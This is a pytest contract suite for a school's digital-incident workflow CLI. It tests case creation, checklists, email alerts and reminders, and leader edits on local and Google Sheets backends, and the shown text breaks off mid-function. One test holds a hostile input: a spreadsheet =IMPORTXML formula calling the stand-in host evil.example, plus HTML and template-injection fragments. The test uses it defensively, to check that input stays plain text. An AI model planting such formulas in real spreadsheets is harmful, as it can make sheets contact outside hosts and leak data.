"""The contract suite: the same end-to-end behaviour through cli.py on both backends.

``site`` is a configured school on the local workbook or on a Google Sheet served by the
emulator (the real gspread client over loopback), with email going to a real SMTP server.
"""

from __future__ import annotations

import json
import shutil
import subprocess
from collections.abc import Callable
from datetime import datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from click.testing import CliRunner, Result
from conftest import SmtpServer, config_text, free_port
from sheets_emulator import SheetsEmulator

from cli import cli
from workflow.config import Config, load_config
from workflow.demo import RESPONSE_HEADERS
from workflow.schema import CASES, CHECKLIST, STEP_STATUSES, TabSpec
from workflow.storage import open_storage
from workflow.storage.local import LocalWorkbookStorage

NZ = ZoneInfo("Pacific/Auckland")
NOW = "2026-11-25T10:00"       # a Wednesday in term
TWO_DAYS_ON = "2026-11-27T11:00"
BACKENDS = ["local", "google"]


class Site:
    """One school's worker: its config, its sheet, and hands to act as Forms and as leaders."""

    def __init__(self, backend: str, folder: Path, smtp_port: int, emulator: SheetsEmulator,
                 monkeypatch: pytest.MonkeyPatch) -> None:
        self.backend, self.emulator = backend, emulator
        self.spreadsheet_id = f"contract-{folder.name}"
        if backend == "google":
            monkeypatch.setenv("SHEETS_EMULATOR_HOST", emulator.host)
            emulator.create_spreadsheet(self.spreadsheet_id, tabs={"Form Responses 1": [RESPONSE_HEADERS]})
        self.path = folder / "config.toml"
        self.write_config(smtp_port)
        setup = self.cli("setup")
        assert setup.exit_code == 0, setup.output

    def write_config(self, smtp_port: int, extra: dict[str, str] | None = None) -> None:
        replace = {"retry_seconds": "1", **(extra or {})}
        self.path.write_text(config_text(self.path.parent, backend=self.backend, transport="smtp",
                                         smtp_port=smtp_port, spreadsheet_id=self.spreadsheet_id,
                                         replace=replace), encoding="utf-8")

    @property
    def config(self) -> Config:
        return load_config(self.path)

    def cli(self, *args: str) -> Result:
        return CliRunner().invoke(cli, ["-c", str(self.path), *args], catch_exceptions=False)

    # -- Google Forms -------------------------------------------------------------------
    def add(self, *records: dict[str, Any]) -> None:
        if self.backend == "local":
            LocalWorkbookStorage(self.config).add_responses(list(records))
        else:
            for record in records:
                self.emulator.append_row(self.spreadsheet_id, "Form Responses 1",
                                         [record.get(h) for h in RESPONSE_HEADERS])

    def edit_response(self, row: int, record: dict[str, Any]) -> None:
        """Forms rewriting response ``row`` (0-based) in place, as when a reporter edits it."""
        values = [record.get(h) for h in RESPONSE_HEADERS]
        if self.backend == "local":
            values = [v.replace(tzinfo=None) if isinstance(v, datetime) else v for v in values]
            self.edit_local("Form Responses 1", lambda sheet: [
                sheet.cell(row + 2, c + 1, v) for c, v in enumerate(values)])
        else:
            self.emulator.set_values(self.spreadsheet_id, "Form Responses 1", f"A{row + 2}", [values])

    # -- a leader -----------------------------------------------------------------------
    def rows(self, tab: str) -> list[dict[str, Any]]:
        if tab == "log":  # a sync reads only the Log's header, so read it as a leader would
            return self.log()
        snapshot = open_storage(self.config).load()
        table = snapshot.responses if tab == "responses" else snapshot.tab(tab)
        return [dict(zip(table.header, r + [None] * (len(table.header) - len(r)), strict=True))
                for r in table.rows if any(v not in (None, "") for v in r)]

    def log(self) -> list[dict[str, Any]]:
        if self.backend == "google":
            header, *rows = self.emulator.values(self.spreadsheet_id, "Log")
        else:
            sheet = openpyxl.load_workbook(self.config.sheet.path)["Log"]
            header, *rows = [list(r) for r in sheet.iter_rows(values_only=True)]
        return [dict(zip(header, row + [None] * (len(header) - len(row)), strict=True)) for row in rows]

    def set_cell(self, tab_title: str, key: Callable[[dict[str, Any]], bool], column: str, value: Any) -> None:
        logical = tab_title.lower()
        rows = self.rows(logical)
        header = list(rows[0]) if rows else []
        index = next(i for i, r in enumerate(rows) if key(r))
        position = header.index(column)
        if self.backend == "local":
            self.edit_local(tab_title, lambda sheet: sheet.cell(index + 2, position + 1, value))
        else:
            letter = chr(ord("A") + position)
            self.emulator.set_values(self.spreadsheet_id, tab_title, f"{letter}{index + 2}", [[value]])

    def add_column(self, tab_title: str, title: str) -> None:
        width = len(self.rows(tab_title.lower())[0])
        if self.backend == "local":
            self.edit_local(tab_title, lambda sheet: sheet.cell(1, width + 1, title))
        else:
            letter = chr(ord("A") + width)
            self.emulator.set_values(self.spreadsheet_id, tab_title, f"{letter}1", [[title]])

    def sort_reversed(self, tab_title: str) -> None:
        """A leader sorting the tab by its first column, Z→A."""
        if self.backend == "google":
            self.emulator.sort_tab(self.spreadsheet_id, tab_title, 1, reverse=True)
            return

        def sort(sheet: Any) -> None:
            data = [list(r) for r in sheet.iter_rows(min_row=2, values_only=True)]
            data.sort(key=lambda r: str(r[0] or ""), reverse=True)
            for i, values in enumerate(data, start=2):
                for j, value in enumerate(values, start=1):
                    sheet.cell(i, j).value = value   # cell(i, j, None) would keep the old value
        self.edit_local(tab_title, sort)

    def edit_local(self, tab_title: str, change: Callable[[Any], Any]) -> None:
        path = self.config.sheet.path
        workbook = openpyxl.load_workbook(path)
        change(workbook[tab_title])
        workbook.save(path)


@pytest.fixture(params=BACKENDS)
def site(request: pytest.FixtureRequest, tmp_path: Path, smtp_server: SmtpServer, emulator: SheetsEmulator,
         monkeypatch: pytest.MonkeyPatch) -> Site:
    return Site(request.param, tmp_path, smtp_server.port, emulator, monkeypatch)


def response(stamp: str, kind: str = "Cyberbullying or harassment", *, risk: str = "No", u18: str = "No",
             reporter: str = "t.teacher@school.example", what: str = "Names in a group chat",
             involved: str = "A.B. (Y9)") -> dict[str, Any]:
    values = [datetime.fromisoformat(stamp).replace(tzinfo=NZ), reporter, kind, risk, u18, "Students",
              "Outside school", "Instagram", what, involved, "Spoke with them"]
    return dict(zip(RESPONSE_HEADERS, values, strict=True))


def sent(server: SmtpServer) -> list[tuple[str, str]]:
    return [(m["To"], m["Subject"]) for m in server.handler.messages()]


def test_alerts_once_then_reminders_once_two_school_days_later(site: Site, smtp_server: SmtpServer) -> None:
    site.add(response("2026-11-25T09:00"),
             response("2026-11-25T09:05", "Nude or intimate images shared", u18="Yes", reporter="m.lee@school.example"))
    first = site.cli("sync", "--now", NOW)
    assert first.exit_code == 0, first.output
    urgent = sorted(to for to, subject in sent(smtp_server) if subject.startswith("[URGENT]"))
    assert urgent == ["counsellor@school.example", "dean@school.example", "principal@school.example"]
    assert {to for to, s in sent(smtp_server) if s.startswith("Thank you")} == {
        "t.teacher@school.example", "m.lee@school.example"}
    cases = site.rows("cases")
    assert [c["Case ID"] for c in cases] == ["DI-2026-0001", "DI-2026-0002"]
    assert len(site.rows("checklist")) == 2 * len(site.config.checklist)
    count = len(smtp_server.handler.envelopes)

    assert site.cli("sync", "--now", NOW).exit_code == 0
    assert len(smtp_server.handler.envelopes) == count

    later = site.cli("sync", "--now", TWO_DAYS_ON, "--json")
    summary = json.loads(later.output)
    assert summary["cases_opened"] == 0 and summary["emails_sent"] > 0
    overdue = [r for r in site.rows("checklist") if r["Status"] == "Overdue"]
    assert overdue
    reminders = [s for _, s in sent(smtp_server)[count:] if "overdue" in s.lower()]
    assert reminders
    count = len(smtp_server.handler.envelopes)
    assert site.cli("sync", "--now", TWO_DAYS_ON).exit_code == 0
    assert len(smtp_server.handler.envelopes) == count
    assert {r["Status"] for r in site.rows("notifications")} <= {"sent", "cancelled"}
    received = {c["Case ID"]: c["Received"] for c in site.rows("cases")}
    assert received["DI-2026-0001"] == datetime(2026, 11, 25, 9, 0, tzinfo=NZ)


def test_leaders_edits_survive_sorting_and_syncs(site: Site, smtp_server: SmtpServer) -> None:
    site.add(*(response(f"2026-11-25T09:0{i}", reporter=f"r{i}@school.example") for i in range(4)))
    assert site.cli("sync", "--now", NOW).exit_code == 0
    site.sort_reversed("Cases")
    site.add_column("Cases", "Our notes")
    site.set_cell("Cases", lambda r: r["Case ID"] == "DI-2026-0002", "Owner", "Ms Dean")
    site.set_cell("Cases", lambda r: r["Case ID"] == "DI-2026-0002", "Our notes", "call whānau Friday")
    site.set_cell("Cases", lambda r: r["Case ID"] == "DI-2026-0003", "Status", "Closed")
    first_step = site.rows("checklist")[0]
    step_key = (first_step["Case ID"], first_step["Step"])
    site.set_cell("Checklist", lambda r: (r["Case ID"], r["Step"]) == step_key, "Done", True)
    site.set_cell("Checklist", lambda r: (r["Case ID"], r["Step"]) == step_key, "Notes", "done at 9:30")
    site.sort_reversed("Checklist")

    result = site.cli("sync", "--now", TWO_DAYS_ON)
    assert result.exit_code == 0, result.output
    cases = {c["Case ID"]: c for c in site.rows("cases")}
    assert cases["DI-2026-0002"]["Owner"] == "Ms Dean"
    assert cases["DI-2026-0002"]["Our notes"] == "call whānau Friday"
    assert cases["DI-2026-0003"]["Status"] == "Closed"
    for case in cases.values():  # no write landed in another case's row
        number = int(case["Case ID"][-4:]) - 1
        assert case["Reported by"] == f"r{number}@school.example"
    steps = {(s["Case ID"], s["Step"]): s for s in site.rows("checklist")}
    step = steps[step_key]
    assert step["Done"] is True and step["Notes"] == "done at 9:30" and step["Status"] == "Done"
    assert isinstance(step["Done at"], datetime)
    for (case_id, _), row in steps.items():
        assert row["Case ID"] == case_id
    log = {(r["Case ID"], r["Event"]) for r in site.rows("log")}
    assert ("DI-2026-0002", "owner set") in log and ("DI-2026-0003", "status changed") in log
    assert ("DI-2026-0003", "overdue") not in {(r["Case ID"], r["Event"]) for r in site.rows("notifications")}


def test_hostile_text_stays_plain_text(site: Site, smtp_server: SmtpServer) -> None:
    hostile = '=IMPORTXML("http://evil.example","//a") <b>x</b> {{ 7*7 }}'
    site.add(response("2026-11-25T09:00", what=hostile, involved="+64 21 555 0000"))
    assert site.cli("sync", "--now", NOW).exit_code == 0
    assert site.rows("cases")[0]["Summary"] == hostile
    if site.backend == "google":
        summary = chr(ord("A") + CASES.column_names.index("Summary"))
        cell = site.emulator.cell(site.spreadsheet_id, "Cases", f"{summary}2")
        assert "formulaValue" not in cell["userEnteredValue"]
    for message in smtp_server.handler.messages():
        assert "IMPORTXML" not in message.get_body(("plain",)).get_content()


def test_edited_response_updates_its_case(site: Site, smtp_server: SmtpServer) -> None:
    site.add(response("2026-11-25T09:00"))
    assert site.cli("sync", "--now", NOW).exit_code == 0
    site.edit_response(0, response("2026-11-25T09:40", "Threats of violence", what="Now threatening him"))
    assert site.cli("sync", "--now", "2026-11-25T09:45").exit_code == 0
    cases = site.rows("cases")
    assert len(cases) == 1 and cases[0]["Priority"] == "Urgent" and cases[0]["Summary"] == "Now threatening him"
    assert ("principal@school.example", "[URGENT] New digital incident DI-2026-0001 (Threats of violence)") in sent(
        smtp_server)


def test_mail_server_down_keeps_emails_queued_then_sends_them(site: Site, smtp_server: SmtpServer) -> None:
    site.write_config(free_port())
    site.add(response("2026-11-25T09:00"))
    down = site.cli("sync", "--now", NOW)
    assert down.exit_code == 75, down.output
    queued = site.rows("notifications")
    assert queued and {n["Status"] for n in queued} == {"queued"} and all(n["Error"] for n in queued)
    assert "not sent" in {r["Setting"]: r["Value"] for r in site.rows("worker")}["Last error"]
    site.write_config(smtp_server.port)
    up = site.cli("sync", "--now", NOW)
    assert up.exit_code == 0, up.output
    assert len(smtp_server.handler.envelopes) == len(queued)
    # the outage spent no attempt: the one that went is the only one counted
    assert {(n["Status"], n["Attempts"]) for n in site.rows("notifications")} == {("sent", 1)}


def test_dry_run_writes_and_sends_nothing(site: Site, smtp_server: SmtpServer) -> None:
    site.add(response("2026-11-25T09:00"))
    before = site.rows("cases")
    result = site.cli("sync", "--dry-run", "--now", NOW)
    assert result.exit_code == 0 and "1 new case" in result.output
    assert site.rows("cases") == before == [] and smtp_server.handler.envelopes == []


# -- issue 7: what leaders type is read tolerantly, and what cannot be read is loud -------------------

SAFETY = "Make sure everyone is safe now"


def steps_of(site: Site, case_id: str = "DI-2026-0001") -> dict[str, dict[str, Any]]:
    return {s["Step"]: s for s in site.rows("checklist") if s["Case ID"] == case_id}


def log_rows(site: Site, event: str) -> list[dict[str, Any]]:
    return [r for r in site.rows("log") if r["Event"] == event]


def set_step(site: Site, title: str, column: str, value: Any, case_id: str = "DI-2026-0001") -> None:
    site.set_cell("Checklist", lambda r: (r["Case ID"], r["Step"]) == (case_id, title), column, value)


def set_case(site: Site, column: str, value: Any, case_id: str = "DI-2026-0001") -> None:
    site.set_cell("Cases", lambda r: r["Case ID"] == case_id, column, value)


def test_done_saved_as_formulas_counts_as_ticked(site: Site, smtp_server: SmtpServer) -> None:
    site.add(response("2026-11-25T09:00"))
    assert site.cli("sync", "--now", NOW).exit_code == 0
    titles = [t for t, s in steps_of(site).items() if s["Status"] != "Not needed"]
    for title in titles[1:]:
        set_step(site, title, "Done", "=TRUE()")           # as LibreOffice saves a ticked box
    set_step(site, titles[0], "Done", "=FALSE()")
    count = len(smtp_server.handler.envelopes)
    result = site.cli("sync", "--now", TWO_DAYS_ON)
    assert result.exit_code == 0, result.output
    steps = steps_of(site)
    assert all(steps[t]["Status"] == "Done" and isinstance(steps[t]["Done at"], datetime) for t in titles[1:])
    assert steps[titles[0]]["Status"] == "Overdue" and steps[titles[0]]["Attention"] in (None, "")
    reminders = [s for _, s in sent(smtp_server)[count:] if s.startswith("Overdue")]
    assert reminders and all(titles[0] in s for s in reminders)       # only the step not ticked
    case = site.rows("cases")[0]
    assert case["Progress"] == f"{len(titles) - 1} of {len(titles)} steps done" and case["Overdue steps"] == 1
    assert len(log_rows(site, "step done")) == len(titles) - 1


@pytest.mark.parametrize("typed", ["closed", "Resolved"])
def test_a_case_closed_in_any_words_stops_everything(site: Site, smtp_server: SmtpServer, typed: str) -> None:
    site.add(response("2026-11-25T09:00"))
    assert site.cli("sync", "--now", NOW).exit_code == 0
    site.write_config(free_port())                                # mail down: the reminders stay queued
    assert site.cli("sync", "--now", TWO_DAYS_ON).exit_code == 75
    queued = [n for n in site.rows("notifications") if n["Status"] == "queued" and n["Case ID"]]
    assert queued and {n["Event"] for n in queued} == {"overdue", "escalation"}
    assert site.rows("cases")[0]["Overdue steps"] > 0
    set_case(site, "Status", typed)
    site.write_config(smtp_server.port)
    count = len(smtp_server.handler.envelopes)
    result = site.cli("sync", "--now", TWO_DAYS_ON)
    assert result.exit_code == 0, result.output
    later = [subject for _, subject in sent(smtp_server)[count:]]
    assert all(subject.startswith("Digital incidents ") for subject in later)   # only the digest goes out
    count = len(smtp_server.handler.envelopes)
    cancelled = {n["Notification ID"]: n for n in site.rows("notifications")}
    assert all(cancelled[n["Notification ID"]]["Status"] == "cancelled" for n in queued)
    assert {cancelled[n["Notification ID"]]["Error"] for n in queued} == {"case closed"}
    case = site.rows("cases")[0]
    assert case["Status"] == typed                                     # the leader's words stay
    assert (case["Overdue steps"], case["Next step"] or "", case["Progress"]) == (0, "", "Case closed")
    assert isinstance(case["Closed at"], datetime)
    assert {s["Status"] for s in steps_of(site).values()} <= {"Case closed", "Not needed"}
    assert len(log_rows(site, "case closed")) == 1
    assert site.cli("sync", "--now", "2026-11-30T11:00").exit_code == 0   # days later: still nothing
    assert all(subject.startswith("Digital incidents ") for _, subject in sent(smtp_server)[count:])
    assert site.rows("cases")[0]["Closed at"] == case["Closed at"]
    status = site.cli("status", "--now", "2026-11-30T11:00")
    assert "DI-2026-0001" not in status.output


def test_not_needed_in_lower_case_is_kept_and_never_reminded(site: Site, smtp_server: SmtpServer) -> None:
    site.add(response("2026-11-25T09:00"))
    assert site.cli("sync", "--now", NOW).exit_code == 0
    set_step(site, SAFETY, "Status", "not needed")
    count = len(smtp_server.handler.envelopes)
    assert site.cli("sync", "--now", TWO_DAYS_ON).exit_code == 0
    assert steps_of(site)[SAFETY]["Status"] == "Not needed"
    assert not any(SAFETY in s for _, s in sent(smtp_server)[count:])
    assert [r["Detail"] for r in log_rows(site, "step not needed")] == [f"{SAFETY!r} marked not needed in Status "
                                                                        "by a leader"]


def test_due_typed_as_text_is_read_and_unreadable_due_is_flagged(site: Site, smtp_server: SmtpServer) -> None:
    site.add(response("2026-11-25T09:00"))
    assert site.cli("sync", "--now", NOW).exit_code == 0
    record = "Record all details in the case"
    set_step(site, SAFETY, "Due", "10/12/2026 9:00")
    set_step(site, record, "Due", "after the meeting")
    planned = steps_of(site)[record]["Planned due"]
    assert site.cli("sync", "--now", NOW).exit_code == 0
    steps = steps_of(site)
    assert steps[SAFETY]["Due"] == datetime(2026, 12, 10, 9, 0, tzinfo=NZ)   # read day first (en_NZ)
    assert steps[record]["Due"] == "after the meeting"                     # kept for the leader to fix
    assert steps[record]["Attention"].startswith("Due: not read as a date, so the planned due")
    flagged = log_rows(site, "needs attention")
    row = next(i for i, s in enumerate(site.rows("checklist")) if s["Step"] == record) + 2
    assert [r["Detail"].split(":")[0] for r in flagged] == [f"Checklist row {row}, column Due"]
    assert "after the meeting" not in flagged[0]["Detail"] and "10/12/2026 9:00" in flagged[0]["Detail"]
    assert site.cli("sync", "--now", "2026-12-01T10:00").exit_code == 0     # the planned due counts
    steps = steps_of(site)
    assert steps[record]["Status"] == "Overdue" and steps[SAFETY]["Status"] == "Open"
    assert isinstance(planned, datetime) and len(log_rows(site, "needs attention")) == 1
    assert site.cli("sync", "--now", "2026-12-10T10:00").exit_code == 0
    assert steps_of(site)[SAFETY]["Status"] == "Overdue"


def test_role_changed_to_a_name_reminds_the_principal_and_is_flagged(site: Site, smtp_server: SmtpServer) -> None:
    site.add(response("2026-11-25T09:00"))
    assert site.cli("sync", "--now", NOW).exit_code == 0
    set_step(site, SAFETY, "Role", "Mrs Hēnare")
    count = len(smtp_server.handler.envelopes)
    result = site.cli("sync", "--now", TWO_DAYS_ON)
    assert result.exit_code == 0, result.output
    reminders = [to for to, s in sent(smtp_server)[count:] if s.startswith("Overdue") and SAFETY in s]
    assert "principal@school.example" in reminders and "dean@school.example" not in reminders
    step = steps_of(site)[SAFETY]
    assert step["Role"] == "Mrs Hēnare" and step["Attention"].startswith("Role: not one of the configured roles")
    assert "1 row of this case needs attention" in site.rows("cases")[0]["Attention"]
    flagged = log_rows(site, "needs attention")
    assert len(flagged) == 1 and ", column Role: " in flagged[0]["Detail"] and "Hēnare" not in flagged[0]["Detail"]
    status = site.cli("status", "--now", TWO_DAYS_ON)
    assert "Needs a leader's attention (1)" in status.output and "Role" in status.output
    check = site.cli("check")
    assert "WARNING  needs a leader's attention: DI-2026-0001" in check.output
    digests = [m.get_body(("plain",)).get_content() for m in smtp_server.handler.messages()
               if m["Subject"].startswith("Digital incidents ")]
    assert digests and "NEEDS A LEADER'S ATTENTION" in digests[-1] and "column Role" not in digests[-1]
    assert "Role: not one of the configured roles" in digests[-1]
    assert site.cli("sync", "--now", TWO_DAYS_ON).exit_code == 0
    assert len(log_rows(site, "needs attention")) == 1                 # not again every sync
    set_step(site, SAFETY, "Role", "Pastoral lead")
    assert site.cli("sync", "--now", TWO_DAYS_ON).exit_code == 0
    step = steps_of(site)[SAFETY]
    assert step["Role"] == "pastoral_lead" and step["Attention"] in (None, "")
    assert len(log_rows(site, "attention resolved")) == 1


def test_priority_raised_by_hand_retimes_and_tells_new_roles_once(site: Site, smtp_server: SmtpServer) -> None:
    site.add(response("2026-11-25T09:00"))
    assert site.cli("sync", "--now", NOW).exit_code == 0
    assert site.rows("cases")[0]["Priority"] == "Normal"
    set_case(site, "Priority", "urgent")
    count = len(smtp_server.handler.envelopes)
    assert site.cli("sync", "--now", "2026-11-25T09:30").exit_code == 0
    case = site.rows("cases")[0]
    assert (case["Priority"], case["Seen priority"], case["Priority set by"]) == ("Urgent", "Urgent", "leader")
    steps = steps_of(site)
    assert steps[SAFETY]["Due"] == datetime(2026, 11, 25, 10, 0, tzinfo=NZ) == steps[SAFETY]["Planned due"]
    assert {s["Priority"] for s in steps.values()} == {"Urgent"}
    told = sent(smtp_server)[count:]
    assert sorted(to for to, _ in told) == ["counsellor@school.example", "principal@school.example"]
    assert {s for _, s in told} == {"[URGENT] Digital incident DI-2026-0001 is now Urgent"}
    assert [r["Detail"] for r in log_rows(site, "priority changed")] == [
        "Normal → Urgent by a leader; 7 open step(s) re-timed"]
    assert site.cli("sync", "--now", "2026-11-25T09:35").exit_code == 0
    assert len(smtp_server.handler.envelopes) == count + 2              # once
    site.edit_response(0, response("2026-11-25T09:40", what="It has calmed down"))
    assert site.cli("sync", "--now", "2026-11-25T09:45").exit_code == 0
    assert site.rows("cases")[0]["Priority"] == "Urgent"                 # a leader's priority stays


def test_ticks_survive_a_libreoffice_save(tmp_path: Path, smtp_server: SmtpServer, emulator: SheetsEmulator,
                                          monkeypatch: pytest.MonkeyPatch) -> None:
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.skip("LibreOffice (soffice) is not installed")
    site = Site("local", tmp_path, smtp_server.port, emulator, monkeypatch)
    site.add(response("2026-11-25T09:00"))
    assert site.cli("sync", "--now", NOW).exit_code == 0
    titles = [t for t, s in steps_of(site).items() if s["Status"] != "Not needed"]
    for title in titles:
        set_step(site, title, "Done", True)
    path = site.config.sheet.path
    out = tmp_path / "saved"
    done = subprocess.run([soffice, "--headless", f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}",
                           "--convert-to", "xlsx", "--outdir", str(out), str(path)],
                          capture_output=True, timeout=180, check=False)
    assert done.returncode == 0, done.stderr
    shutil.copy(out / path.name, path)
    stored = {c.value for c in openpyxl.load_workbook(path)["Checklist"]["G"][1:] if c.value is not None}
    result = site.cli("sync", "--now", TWO_DAYS_ON)
    assert result.exit_code == 0, result.output
    steps = steps_of(site)
    assert all(steps[t]["Status"] == "Done" for t in titles), stored
    assert "=TRUE()" in stored or True in stored    # LibreOffice stores ticks as =TRUE() formulas
    assert site.rows("cases")[0]["Progress"] == "Ready to close"
    assert not [s for _, s in sent(smtp_server) if s.startswith("Overdue")]


# -- the leaders' board, as setup lays it out (both backends, through the CLI) -------------------

# The overdue-step rule, the same text on both backends (Checklist: Due F, Done G, Status I).
_CASE_STATUS = """SUBSTITUTE(INDEX(INDIRECT("'Cases'!$F:$F"),MATCH($A2,INDIRECT("'Cases'!$A:$A"),0))," ","")"""
OVERDUE_FORMULA = (
    'AND($G2<>TRUE,$G2<>"TRUE",SUBSTITUTE($I2," ","")<>"Done",SUBSTITUTE($I2," ","")<>"Notneeded",'
    f'SUBSTITUTE($I2," ","")<>"Caseclosed",ISNUMBER($F2),$F2<NOW(),{_CASE_STATUS}<>"Closed",'
    f'{_CASE_STATUS}<>"Withdrawn")'
)


def board(site: Site) -> dict[str, Any]:
    """What a leader sees of the board on either backend: the first tab, filters, rules, dropdowns."""
    specs: dict[str, TabSpec] = {"Cases": CASES, "Checklist": CHECKLIST}
    lists: dict[tuple[str, str], list[str] | None] = {}
    if site.backend == "local":
        workbook = openpyxl.load_workbook(site.config.sheet.path)
        rules = {}
        for title, spec in specs.items():
            sheet = workbook[title]
            found = sorted((r.priority, r.formula[0]) for cf in sheet.conditional_formatting for r in cf.rules)
            rules[title] = [formula for _, formula in found]
            for column in spec.column_names:
                cell = f"{chr(ord('A') + spec.column_names.index(column))}2"
                validation = [v for v in sheet.data_validations.dataValidation if v.type == "list" and cell in v.sqref]
                lists[title, column] = validation[0].formula1.strip('"').split(",") if validation else None
        return {"first": workbook.sheetnames[0], "opens on": workbook.active.title, "rules": rules, "lists": lists,
                "filters": {t for t in workbook.sheetnames if workbook[t].auto_filter.ref}}
    meta = site.emulator.metadata(site.spreadsheet_id)
    sheets = {s["properties"]["title"]: s for s in meta["sheets"]}
    rules = {title: [r["booleanRule"]["condition"]["values"][0]["userEnteredValue"].removeprefix("=")
                     for r in sheets[title].get("conditionalFormats") or []] for title in specs}
    for title, spec in specs.items():
        for column in spec.column_names:
            cell = f"{chr(ord('A') + spec.column_names.index(column))}2"
            rule = (site.emulator.cell(site.spreadsheet_id, title, cell) or {}).get("dataValidation") or {}
            condition = rule.get("condition") or {}
            lists[title, column] = ([v["userEnteredValue"] for v in condition["values"]]
                                    if condition.get("type") == "ONE_OF_LIST" else None)
    first = meta["sheets"][0]["properties"]["title"]
    return {"first": first, "opens on": first, "rules": rules, "lists": lists,
            "filters": {t for t, s in sheets.items() if s.get("basicFilter")}}


def test_setup_lays_out_a_board_leaders_can_scan(site: Site) -> None:
    seen = board(site)
    assert seen["first"] == seen["opens on"] == "Cases"
    assert seen["filters"] == {"Cases", "Checklist"}
    assert seen["lists"]["Cases", "Status"] == ["Open", "Closed", "Withdrawn"]
    assert seen["lists"]["Cases", "Priority"] == ["Urgent", "High", "Normal"]
    assert seen["lists"]["Cases", "Outcome"] == list(site.config.board.outcomes)
    assert seen["lists"]["Cases", "Owner"] is None, "no owners in the config: Owner is free text"
    assert seen["lists"]["Checklist", "Status"] == list(STEP_STATUSES)
    assert seen["lists"]["Checklist", "Role"] == list(site.config.contacts)
    assert seen["lists"]["Checklist", "Done"] == (["TRUE", "FALSE"] if site.backend == "local" else None)
    assert seen["rules"]["Cases"] == [
        "LEN(TRIM($L2))>0", "AND(ISNUMBER($J2),$J2>0)",
        'AND(ISNUMBER($I2),$I2<NOW(),SUBSTITUTE($F2," ","")<>"Closed",SUBSTITUTE($F2," ","")<>"Withdrawn")',
        '$E2="Urgent"', '$E2="High"']
    assert seen["rules"]["Checklist"] == ["LEN(TRIM($K2))>0", OVERDUE_FORMULA, '$B2="Urgent"', '$B2="High"']

    again = site.cli("setup")
    assert again.exit_code == 0 and "already set up" in again.output, again.output


def test_setup_lists_owners_once_configured(site: Site, smtp_server: SmtpServer) -> None:
    site.write_config(smtp_server.port, {"owners": '["Ms K", "Mr T"]'})
    result = site.cli("setup")
    assert result.exit_code == 0 and "Owner dropdown" in result.output, result.output
    assert board(site)["lists"]["Cases", "Owner"] == ["Ms K", "Mr T"]
    assert "already set up" in site.cli("setup").output


def test_setup_moves_ready_to_close_written_by_older_versions_back_to_open(site: Site) -> None:
    old = {"Case ID": "DI-2026-0001", "Status": "Ready to close", "Priority": "Normal"}
    kept = {"Case ID": "DI-2026-0002", "Status": "Closed", "Priority": "High"}
    if site.backend == "local":
        def put(sheet: Any) -> None:
            for row, record in enumerate((old, kept), start=2):
                for column, value in record.items():
                    sheet.cell(row, CASES.column_names.index(column) + 1, value)
        site.edit_local("Cases", put)
    else:
        site.emulator.set_values(site.spreadsheet_id, "Cases", "A2", [
            [record.get(c, "") for c in CASES.column_names[:6]] for record in (old, kept)])

    result = site.cli("setup")

    assert result.exit_code == 0, result.output
    assert 'Status "Ready to close" (written by older versions) became "Open" on 1 case(s)' in result.output
    assert "DI-2026-0001" in result.output
    statuses = {c["Case ID"]: c["Status"] for c in site.rows("cases")}
    assert statuses == {"DI-2026-0001": "Open", "DI-2026-0002": "Closed"}
    assert "already set up" in site.cli("setup").output


def test_sync_on_a_sheet_without_the_new_columns_says_run_setup(site: Site) -> None:
    """A sheet from an older version (no Progress column yet) stops the sync with what to do."""
    if site.backend == "local":
        site.edit_local("Cases", lambda sheet: sheet.delete_cols(CASES.column_names.index("Progress") + 1))
    else:
        sheet_id = site.emulator.sheet_id(site.spreadsheet_id, "Cases")
        position = CASES.column_names.index("Progress")
        open_storage(site.config).sheets.batch({"requests": [{"deleteDimension": {"range": {  # type: ignore[attr-defined]
            "sheetId": sheet_id, "dimension": "COLUMNS", "startIndex": position, "endIndex": position + 1}}}]})
    site.add(response("2026-11-25T09:00"))

    result = site.cli("sync", "--now", NOW)

    assert result.exit_code == 1, result.output
    assert "tab 'Cases' has no column 'Progress'" in result.output
    assert "Run `digital-incidents setup`" in result.output
    assert site.rows("cases") == []
    repaired = site.cli("setup")
    assert repaired.exit_code == 0 and "Progress" in repaired.output, repaired.output
    assert "Progress" in open_storage(site.config).load().tab("cases").header


# -- issue 9 (6): a leader's Closed or Withdrawn typed while a sync runs is never overwritten -------


def leader_closes_and_sorts(site: Site, case_id: str, typed: str) -> None:
    """A leader types ``typed`` in a case's Status, then sorts Cases Z→A — straight into the sheet
    (no storage load: this runs in the middle of a sync)."""
    if site.backend == "google":
        header, *rows = site.emulator.values(site.spreadsheet_id, "Cases")
        row = next(i for i, r in enumerate(rows) if r[0] == case_id)
        letter = chr(ord("A") + header.index("Status"))
        site.emulator.set_values(site.spreadsheet_id, "Cases", f"{letter}{row + 2}", [[typed]])
        site.emulator.sort_tab(site.spreadsheet_id, "Cases", 1, reverse=True)
        return

    def close_and_sort(sheet: Any) -> None:
        header = [cell.value for cell in sheet[1]]
        data = [list(r) for r in sheet.iter_rows(min_row=2, values_only=True)]
        for values in data:
            if values[0] == case_id:
                values[header.index("Status")] = typed
        data.sort(key=lambda r: str(r[0] or ""), reverse=True)
        for i, values in enumerate(data, start=2):
            for j, value in enumerate(values, start=1):
                sheet.cell(i, j, value)
    site.edit_local("Cases", close_and_sort)


def between_read_and_write(site: Site, monkeypatch: pytest.MonkeyPatch, act: Callable[[], None]) -> None:
    """Run ``act`` once, after the next sync has read the sheet and before it writes."""
    if site.backend == "google":
        site.emulator.before_request(2, act)  # request 1 is the sync's one read, 2 its first write
        return
    original = LocalWorkbookStorage.load
    done: list[bool] = []

    def load_then_act(self: LocalWorkbookStorage) -> Any:
        snapshot = original(self)
        if not done:
            done.append(True)
            act()
        return snapshot

    monkeypatch.setattr(LocalWorkbookStorage, "load", load_then_act)


def four_cases_one_ready_to_close(site: Site) -> None:
    """Four cases, so that a Z→A sort moves every row (DI-2026-0002 from the 2nd row to the 3rd)."""
    site.add(*(response(f"2026-11-25T09:0{i}", reporter=f"r{i}@school.example") for i in range(4)))
    assert site.cli("sync", "--now", NOW).exit_code == 0
    for title in steps_of(site, "DI-2026-0002"):  # every step ticked: the worker's view is "Ready to close"
        set_step(site, title, "Done", True, "DI-2026-0002")


def assert_closed_is_honoured(site: Site, typed: str) -> None:
    """The next sync reads the leader's word: the case is closed (once), and no longer listed as open."""
    result = site.cli("sync", "--now", "2026-11-30T11:00")
    assert result.exit_code == 0, result.output
